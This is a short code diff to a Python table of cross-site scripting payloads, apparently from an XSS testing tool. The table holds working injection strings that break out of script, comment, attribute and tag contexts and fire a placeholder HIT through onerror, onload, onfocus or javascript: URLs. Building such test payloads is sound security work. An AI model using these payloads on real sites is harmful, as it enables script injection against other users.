@@ -8,7 +8,8 @@ TEXTS = {
     "script": f"<script>{HIT}</script>",
     "end of a script": f"</script><script>{HIT}</script>",
     "comment": f"<!--<script> --><svg/onload={HIT}>",
-    "end of all": f"</textarea></title></style></option></math></svg><img src=x onerror={HIT}>",
+    "end of all": "</script></textarea></title></style></option></math></svg>"
+                  f"<img src=x onerror={HIT}>",
     "attribute": f'" autofocus tabindex=1 onfocus={HIT} x="',
     "attribute in single quotes": f"' autofocus tabindex=1 onfocus={HIT} onpointerover={HIT} x='",
     "address": f"javascript:{HIT}",
